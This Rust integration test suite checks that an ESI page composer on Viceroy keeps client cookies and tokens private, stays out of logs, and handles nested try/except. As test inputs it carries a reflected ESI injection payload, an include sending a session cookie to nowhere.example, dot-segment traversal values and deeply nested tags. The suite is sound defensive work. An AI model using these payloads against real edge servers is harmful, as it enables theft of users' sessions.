//! Composed pages against a hostile client and a careless origin, end to end over HTTP on
//! Viceroy: a personal page never leaves as shareable, reflected input cannot read or send
//! the client's credentials, no cookie value reaches a log, what an `alt`, `onerror` or
//! except abandoned can no longer fail the page, `esi:try` nests as ESI 1.0 says, a template
//! of any status is composed, and the variables keep a port and pass a query on.
//!
//! Routes of the scripted origin (each test programs it):
//! - `/se/`: composes what asks for it (`esi = surrogate`);
//! - `/on/`: composes every HTML response (`esi = on`);
//! - `/cred/`: composes nothing, and opts in to the client's credentials (`esi_credentials`);
//! - `/plain/`: composes nothing;
//! - `/sc/`: `/se/` with the edge cache, a `Cookie` not keeping a request from it.

use std::time::{Duration, Instant};

use firstbyte_harness::client::{self, Reply};
use firstbyte_harness::peers::{Script, Scripted};
use firstbyte_harness::stack::LocalStack;

const LOG_WAIT: Duration = Duration::from_secs(30);
const SECRET: &str = "s3cr3t-session-value";

fn stack(extra: &[(&str, Option<&str>)]) -> (LocalStack, Scripted) {
    let origin = Scripted::start().expect("scripted origin");
    let mut overrides: Vec<(&str, Option<&str>)> = vec![
        ("routes", Some("origin,se,on,cred,plain,sc")),
        ("route.se.prefix", Some("/se/")),
        ("route.se.backend", Some("scripted")),
        ("route.se.strip_prefix", Some("true")),
        ("route.se.esi", Some("surrogate")),
        ("route.on.prefix", Some("/on/")),
        ("route.on.backend", Some("scripted")),
        ("route.on.strip_prefix", Some("true")),
        ("route.on.esi", Some("on")),
        ("route.cred.prefix", Some("/cred/")),
        ("route.cred.backend", Some("scripted")),
        ("route.cred.strip_prefix", Some("true")),
        ("route.cred.esi_credentials", Some("on")),
        ("route.plain.prefix", Some("/plain/")),
        ("route.plain.backend", Some("scripted")),
        ("route.plain.strip_prefix", Some("true")),
        ("route.sc.prefix", Some("/sc/")),
        ("route.sc.backend", Some("scripted")),
        ("route.sc.strip_prefix", Some("true")),
        ("route.sc.esi", Some("surrogate")),
        ("route.sc.cache_ttl", Some("60")),
        ("route.sc.cache_cookies", Some("ignore")),
    ];
    overrides.extend_from_slice(extra);
    let stack = LocalStack::start_with_backends(&[("scripted", origin.addr)], &overrides)
        .expect("origin and viceroy start");
    (stack, origin)
}

const ESI: (&str, &str) = ("surrogate-control", "content=\"ESI/1.0\"");
const HTML: (&str, &str) = ("content-type", "text/html");

fn failing() -> Script {
    Script::status(500, &[HTML], b"down")
}

async fn get(s: &LocalStack, path: &str, headers: &[(&str, &str)]) -> Reply {
    client::request(s.edge.addr, "GET", path, headers)
        .await
        .expect("reply")
}

/// A page composed for a request with `Cookie` or `Authorization` leaves `private`, whatever
/// its template said to shared caches (`public`, `s-maxage`, `CDN-Cache-Control`): its head
/// leaves before the fragments answer, and one of them may be personal. Without credentials
/// the template's caching stands. Through the edge cache too, on a miss and on a hit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_personal_page_is_never_shareable() {
    let (s, origin) = stack(&[]);
    origin.script(
        "/me",
        Script::ok(
            &[
                HTML,
                ("cache-control", "private, no-store"),
                ("vary", "cookie"),
            ],
            b"hello {cookie}",
        )
        .reflecting(),
    );
    let page = Script::ok(
        &[
            HTML,
            ESI,
            ("cache-control", "public, max-age=3600, s-maxage=600"),
            ("cdn-cache-control", "max-age=600"),
            ("akamai-cache-control", "max-age=600"),
        ],
        b"<p><esi:include src=\"/cred/me\"/></p>",
    );
    origin.script("/page", page);
    let cookie = format!("session={SECRET}");
    for (name, value) in [("cookie", cookie.as_str()), ("authorization", "Bearer abc")] {
        for method in ["GET", "HEAD"] {
            let reply = client::request(s.edge.addr, method, "/se/page", &[(name, value)])
                .await
                .expect("reply");
            assert_eq!(reply.status, 200);
            let cc = reply.header_list("cache-control").to_ascii_lowercase();
            assert!(cc.contains("private"), "{name} {method}: {cc}");
            assert!(
                !cc.contains("public") && !cc.contains("s-maxage"),
                "{name} {method}: {cc}"
            );
            assert!(
                cc.contains("max-age=3600"),
                "the client's own cache may: {cc}"
            );
            for targeted in [
                "cdn-cache-control",
                "akamai-cache-control",
                "surrogate-control",
            ] {
                assert_eq!(reply.header(targeted), None, "{name} {method}: {targeted}");
            }
        }
    }
    let anonymous = get(&s, "/se/page", &[]).await;
    assert_eq!(anonymous.text(), "<p>hello </p>");
    let cc = anonymous.header_list("cache-control");
    assert!(cc.contains("public") && cc.contains("s-maxage=600"), "{cc}");
    assert_eq!(anonymous.header("cdn-cache-control"), Some("max-age=600"));

    // Through the edge cache: the template is stored, the page made private for each
    // client with a cookie.
    for round in ["MISS", "HIT"] {
        let reply = get(&s, "/sc/page", &[("cookie", &cookie)]).await;
        assert_eq!(reply.header("x-cache"), Some(round));
        let cc = reply.header_list("cache-control");
        assert!(
            cc.contains("private") && !cc.contains("public"),
            "{round}: {cc}"
        );
        assert_eq!(reply.header("cdn-cache-control"), None, "{round}");
        assert!(s.edge.wait_until_idle(LOG_WAIT));
    }
}

/// The reflected-input attack: an origin that echoes a query into its template (here the
/// template of a surrogate route, and a page of an `esi = on` route) lets a client write an
/// include. It can no longer read the client's cookies (`HTTP_COOKIE` reads only the names
/// the route lists in `esi_cookies`, none by default) nor send them (a fragment gets
/// `Cookie` and `Authorization` only where its route says `esi_credentials = on`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reflected_esi_cannot_read_or_send_credentials() {
    let (s, origin) = stack(&[]);
    origin.script(
        "/search",
        Script::ok(&[HTML, ESI], b"results for {decoded}").reflecting(),
    );
    origin.script(
        "/echo",
        Script::ok(
            &[HTML],
            b"[echo {target} cookie={cookie} auth={authorization}]",
        )
        .reflecting(),
    );
    let attack =
        "%3Cesi%3Ainclude%20src%3D%22%2Fplain%2Fecho%3Fc%3D%24(HTTP_COOKIE%7Bsession%7D)%22%2F%3E";
    let cookie = format!("session={SECRET}");
    let credentials = [
        ("cookie", cookie.as_str()),
        ("authorization", "Bearer t0ken"),
    ];
    for path in [
        format!("/se/search?q={attack}"),
        format!("/on/search?q={attack}"),
    ] {
        let page = get(&s, &path, &credentials).await;
        let text = page.text();
        assert!(page.body_error.is_none(), "{path}: {text}");
        assert!(text.contains("[echo /echo?c= "), "{path}: {text}");
        assert!(!text.contains(SECRET), "{path} leaked the cookie: {text}");
        assert!(!text.contains("t0ken"), "{path} leaked the token: {text}");
    }
    for seen in origin.seen("/echo") {
        assert_eq!(seen.header("cookie"), None);
        assert_eq!(seen.header("authorization"), None);
    }
}

/// A fragment's own route opts in to the client's credentials (`esi_credentials = on`);
/// `HTTP_COOKIE{name}` reads only what the composing route lists in `esi_cookies`, from
/// every `Cookie` line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_and_cookies_only_where_a_route_says() {
    let (s, origin) = stack(&[("route.se.esi_cookies", Some("theme,lang"))]);
    origin.script(
        "/echo",
        Script::ok(&[HTML], b"[{target} {cookie}]").reflecting(),
    );
    origin.script(
        "/page",
        Script::esi_template(concat!(
            "<esi:include src=\"/cred/echo?t=$(HTTP_COOKIE{theme})&l=$(HTTP_COOKIE{lang})",
            "&s=$(HTTP_COOKIE{session})\"/>",
            "<esi:include src=\"/plain/echo\"/>",
        )),
    );
    let session = format!("session={SECRET}; theme=dark");
    let page = get(
        &s,
        "/se/page",
        &[("cookie", &session), ("cookie", "lang=fr")],
    )
    .await;
    assert!(page.body_error.is_none(), "{page:?}");
    assert_eq!(
        page.text(),
        format!("[/echo?t=dark&l=fr&s= session={SECRET}; theme=dark; lang=fr][/echo ]"),
        "the listed cookies of both lines; credentials only to the route that asks"
    );
}

/// No cookie value ever reaches a log: a refused include is logged with its `src` as
/// written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cookie_value_is_logged() {
    let (s, origin) = stack(&[("route.se.esi_cookies", Some("session"))]);
    origin.script(
        "/page",
        Script::esi_template(concat!(
            "a<esi:include src=\"http://nowhere.example/$(HTTP_COOKIE{session})\" onerror=\"continue\"/>",
            "b<esi:include src=\"/nope/$(HTTP_COOKIE{session})\" onerror=\"continue\"/>c",
        )),
    );
    let page = get(&s, "/se/page", &[("cookie", &format!("session={SECRET}"))]).await;
    assert_eq!(page.text(), "abc");
    let record = s.edge.access_record("/se/page", LOG_WAIT).expect("record");
    assert_eq!(record["fragments"]["failed"], 2);
    let lines = s.edge.lines();
    assert!(
        lines.iter().any(|l| l.contains("nowhere.example")),
        "the refusal is logged"
    );
    let leaked: Vec<&String> = lines.iter().filter(|l| l.contains(SECRET)).collect();
    assert!(leaked.is_empty(), "{leaked:#?}");
}

/// A fragment whose own template already requested a nested include fails fast; its `alt`,
/// `onerror="continue"` or except takes over. The nested include fails later, while the
/// page still waits on a slow fragment: that failure reaches nothing, and the page
/// completes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_abandoned_fragment_never_fails_the_page() {
    let (s, origin) = stack(&[]);
    let tag = "<esi:include src=\"nested\"/>";
    origin.script(
        "/f",
        Script::ok(&[HTML, ESI], format!("{tag}, and the rest").as_bytes()).cut_after(tag.len()),
    );
    origin.script("/nested", failing().delayed(Duration::from_millis(400)));
    origin.script("/ok", Script::html("[ok]"));
    origin.script(
        "/slow",
        Script::html("[slow]").delayed(Duration::from_millis(1500)),
    );
    for (name, middle, expected) in [
        ("alt", "<esi:include src=\"f\" alt=\"ok\"/>", "a[ok]b[slow]c"),
        (
            "onerror",
            "<esi:include src=\"f\" onerror=\"continue\"/>",
            "ab[slow]c",
        ),
        (
            "except",
            "<esi:try><esi:attempt><esi:include src=\"f\"/></esi:attempt><esi:except>E</esi:except></esi:try>",
            "aEb[slow]c",
        ),
    ] {
        origin.script(
            "/page",
            Script::esi_template(&format!("a{middle}b<esi:include src=\"slow\"/>c")),
        );
        let before = origin.count("/nested");
        let started = Instant::now();
        let page = get(&s, "/se/page", &[]).await;
        assert!(
            page.body_error.is_none(),
            "{name}: the page was abandoned: {}",
            page.text()
        );
        assert_eq!(page.text(), expected, "{name}");
        assert!(started.elapsed() >= Duration::from_millis(1400), "{name}");
        assert_eq!(
            origin.count("/nested"),
            before + 1,
            "{name}: the nested include had been requested"
        );
    }
}

/// ESI 1.0's try nests: the includes of a try inside an except are requested and placed
/// when the except is used.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_try_inside_an_except_is_composed() {
    let (s, origin) = stack(&[]);
    origin.script("/broken", failing());
    origin.script("/x", Script::html("X"));
    origin.script(
        "/page",
        Script::esi_template(concat!(
            "A<esi:try><esi:attempt><esi:include src=\"broken\"/></esi:attempt>",
            "<esi:except>E<esi:try><esi:attempt>[<esi:include src=\"x\"/>]</esi:attempt>",
            "<esi:except>inner</esi:except></esi:try></esi:except></esi:try>Z",
        )),
    );
    let page = get(&s, "/se/page", &[]).await;
    assert!(page.body_error.is_none(), "{page:?}");
    assert_eq!(page.text(), "AE[X]Z");
    assert_eq!(origin.count("/x"), 1);
}

/// A failure inside a nested try's except fails the enclosing attempt, whose except then
/// goes out (ESI 1.0), and nothing of the failed attempt reaches the client.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failure_in_a_nested_except_runs_the_outer_except() {
    let (s, origin) = stack(&[]);
    origin.script("/broken", failing());
    origin.script("/broken2", failing().delayed(Duration::from_millis(200)));
    origin.script(
        "/page",
        Script::esi_template(concat!(
            "A<esi:try><esi:attempt>[<esi:try><esi:attempt><esi:include src=\"broken\"/>",
            "</esi:attempt><esi:except>x<esi:include src=\"broken2\"/></esi:except></esi:try>]",
            "</esi:attempt><esi:except>OUTER-EXCEPT</esi:except></esi:try>Z",
        )),
    );
    let page = get(&s, "/se/page", &[]).await;
    assert!(page.body_error.is_none(), "{page:?}");
    assert_eq!(page.text(), "AOUTER-EXCEPTZ");
    assert_eq!(origin.count("/broken2"), 1);
}

/// A template is composed whatever its status (an error page with includes is real use),
/// uncached, through the edge cache, and on an `esi = on` route: its tags never reach a
/// client raw, and the page keeps the template's status.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_template_of_any_status_is_composed() {
    let (s, origin) = stack(&[]);
    origin.script("/nav", Script::html("[nav]"));
    let body = b"not found <esi:include src=\"/se/nav\"/> token=<esi:include src=\"/plain/nav\"/>";
    origin.script(
        "/missing",
        Script::status(404, &[HTML, ESI, ("cache-control", "max-age=60")], body),
    );
    origin.script("/down", Script::status(503, &[HTML], body));
    for (path, status) in [
        ("/se/missing", 404),
        ("/sc/missing", 404),
        ("/sc/missing", 404),
        ("/on/down", 503),
    ] {
        let page = get(&s, path, &[]).await;
        assert_eq!(page.status, status, "{path}");
        assert!(page.body_error.is_none(), "{path}");
        assert_eq!(page.text(), "not found [nav] token=[nav]", "{path}");
        assert!(s.edge.wait_until_idle(LOG_WAIT));
    }
    assert_eq!(origin.count("/missing"), 2, "the 404 template was stored");
}

/// `$(HTTP_HOST)` keeps its port in an absolute `src`; `$(QUERY_STRING)` is the query as
/// sent (ESI 1.0), `$(QUERY_STRING{key})` a value decoded then escaped for the URL.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn variables_keep_a_port_and_pass_a_query_on() {
    let (s, origin) = stack(&[]);
    origin.script("/echo", Script::html("[{target}]").reflecting());
    origin.script(
        "/page",
        Script::esi_template(concat!(
            "<esi:include src=\"http://$(HTTP_HOST)/plain/echo?h\"/>",
            "<esi:include src=\"/plain/echo?$(QUERY_STRING)\"/>",
            "<esi:include src=\"/plain/echo?b=$(QUERY_STRING{b})\"/>",
        )),
    );
    let page = get(&s, "/se/page?a=1&b=x%20y%2Fz", &[]).await;
    assert!(page.body_error.is_none(), "{page:?}");
    assert_eq!(
        page.text(),
        "[/echo?h][/echo?a=1&b=x%20y%2Fz][/echo?b=x%20y%2Fz]"
    );
}

/// `esi:try` nests at most 64 deep (docs/esi.md): a template of nothing but try tags, or
/// thousands of well-formed nested tries, fails visibly and quickly, never traps, and the
/// request keeps its access-log line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deeply_nested_tries_fail_the_page_visibly() {
    let (s, origin) = stack(&[]);
    let open = "<esi:try>".repeat((1 << 20) / 9);
    let mut well_formed = "<esi:try><esi:attempt>".repeat(4096);
    well_formed.push('X');
    well_formed.push_str(&"</esi:attempt></esi:try>".repeat(4096));
    let commented = "<!--esi <esi:try>-->".repeat((1 << 20) / 20);
    for (name, body) in [
        ("open", open),
        ("nested", well_formed),
        ("commented", commented),
    ] {
        origin.script(&format!("/{name}"), Script::esi_template(&body));
        let path = format!("/se/{name}");
        let started = Instant::now();
        // The page fails before its head is out (502), or after (a cut body); a
        // connection cut before the head is flushed is as visible.
        if let Ok(page) = client::request(s.edge.addr, "GET", &path, &[]).await {
            assert!(
                page.status == 502 || page.body_error.is_some(),
                "{name}: {} {:?}",
                page.status,
                page.body_error
            );
        }
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "{name}: took {:?}",
            started.elapsed()
        );
        assert!(
            s.edge.access_record(&path, LOG_WAIT).is_some(),
            "{name}: no access-log line"
        );
    }
    assert!(
        s.edge
            .lines()
            .iter()
            .any(|l| l.contains("nested more than 64")),
        "the reason is logged"
    );
}

/// A variable's value never makes a dot-segment (`..`, `%2e%2e`): the include fails, so its
/// `alt`, `onerror` or except applies, and a value can never move a fragment onto another
/// route (one that gets the client's credentials). The refusal is logged with `src` as
/// written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_value_never_climbs_out_of_its_path() {
    let (s, origin) = stack(&[("route.se.esi_cookies", Some("c"))]);
    origin.script("/d", Script::html("[D {cookie}]").reflecting());
    origin.script("/fallback", Script::html("[fallback]"));
    origin.script(
        "/page",
        Script::esi_template(concat!(
            "<esi:include src=\"/plain/items/$(QUERY_STRING{id})/d\" alt=\"/plain/fallback\"/>|",
            "<esi:try><esi:attempt><esi:include src=\"/plain/$(QUERY_STRING{k})/cred/d\"/>",
            "</esi:attempt><esi:except>E</esi:except></esi:try>|",
            "<esi:include src=\"/plain/x/$(HTTP_COOKIE{c})/d\" onerror=\"continue\"/>|",
        )),
    );
    let cookie = format!("c=%2e%2e; session={SECRET}");
    let page = get(&s, "/se/page?id=..&k=..", &[("cookie", &cookie)]).await;
    assert!(page.body_error.is_none(), "{page:?}");
    assert_eq!(page.text(), "[fallback]|E||");
    assert_eq!(origin.count("/d"), 0, "{:?}", origin.seen("/d"));
    assert!(s.edge.wait_until_idle(LOG_WAIT));
    let lines = s.edge.lines();
    assert!(
        lines
            .iter()
            .any(|l| l.contains("/plain/items/$(QUERY_STRING{id})/d") && l.contains("dot-segment")),
        "the refusal names src as written"
    );
    assert!(!lines.iter().any(|l| l.contains(SECRET)));
}

/// An unclosed try, attempt or except fails the page visibly instead of deleting the text
/// after it; text directly inside a try, outside its attempt and except, goes out in
/// document order with whichever part is used.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn try_text_is_never_silently_deleted() {
    let (s, origin) = stack(&[]);
    origin.script("/broken", failing());
    origin.script("/ok", Script::html("F"));
    origin.script(
        "/unclosed",
        Script::esi_template("T<esi:try><esi:attempt>A<esi:include src=\"/plain/broken\"/>tail"),
    );
    // Failed visibly: a 502, a body cut short, or, when the page fails before Viceroy wrote
    // the head it was handed (it flushes a streamed head with the first body bytes), a
    // connection closed with no response at all; never a page that ends cleanly.
    match client::request(s.edge.addr, "GET", "/se/unclosed", &[]).await {
        Ok(page) => assert!(
            page.status == 502 || page.body_error.is_some(),
            "{} {:?} {}",
            page.status,
            page.body_error,
            page.text()
        ),
        Err(closed) => assert!(
            format!("{closed:?}").contains("IncompleteMessage"),
            "{closed:?}"
        ),
    }
    for (src, want) in [
        ("/plain/ok", "BEFORE[F]BETWEENAFTER"),
        ("/plain/broken", "BEFOREBETWEENEAFTER"),
    ] {
        origin.script(
            "/loose",
            Script::esi_template(&format!(
                "<esi:try>BEFORE<esi:attempt>[<esi:include src=\"{src}\"/>]</esi:attempt>BETWEEN\
                 <esi:except>E</esi:except>AFTER</esi:try>"
            )),
        );
        let page = get(&s, "/se/loose", &[]).await;
        assert!(page.body_error.is_none(), "{page:?}");
        assert_eq!(page.text(), want, "{src}");
    }
}

/// A template request never carries `Range`, so a template answered 206 is the origin's
/// error: 502 with a reason, never its tags raw.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_template_part_is_an_origin_error() {
    let (s, origin) = stack(&[]);
    origin.script(
        "/part",
        Script::status(
            206,
            &[HTML, ESI, ("content-range", "bytes 0-40/100")],
            b"a <esi:include src=\"/plain/nav\"/> b",
        ),
    );
    for path in ["/se/part", "/on/part"] {
        let page = get(&s, path, &[("range", "bytes=0-40")]).await;
        assert_eq!(page.status, 502, "{path}");
        assert!(!page.text().contains("<esi:"), "{path}: {}", page.text());
    }
}

/// A composed page has no validator, so the client's conditionals never reach the
/// template's origin (whose 304 would be about the template): the client gets the page.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conditionals_never_reach_a_template_origin() {
    let (s, origin) = stack(&[]);
    origin.script("/nav", Script::html("[nav]"));
    origin.script(
        "/page",
        Script::ok(
            &[
                HTML,
                ESI,
                ("etag", "\"t1\""),
                ("last-modified", "Mon, 07 Dec 2026 00:00:00 GMT"),
            ],
            b"a <esi:include src=\"/plain/nav\"/> b",
        ),
    );
    for path in ["/se/page", "/sc/page", "/sc/page"] {
        let page = get(
            &s,
            path,
            &[
                ("if-none-match", "\"t1\""),
                ("if-modified-since", "Mon, 07 Dec 2026 00:00:00 GMT"),
                ("if-match", "\"zz\""),
                ("if-unmodified-since", "Mon, 01 Jan 2001 00:00:00 GMT"),
            ],
        )
        .await;
        assert_eq!(page.status, 200, "{path}");
        assert_eq!(page.text(), "a [nav] b", "{path}");
        assert!(s.edge.wait_until_idle(LOG_WAIT));
    }
    // OPTIONS is safe too: its conditionals are about the page as much as a GET's.
    let options = client::request(
        s.edge.addr,
        "OPTIONS",
        "/se/page",
        &[("if-none-match", "\"t1\"")],
    )
    .await
    .expect("reply");
    assert_ne!(options.status, 304, "a 304 about the template");
    assert!(s.edge.wait_until_idle(LOG_WAIT));
    for seen in origin.seen("/page") {
        for name in [
            "if-none-match",
            "if-modified-since",
            "if-match",
            "if-unmodified-since",
        ] {
            assert_eq!(seen.header(name), None, "{name}");
        }
    }
}
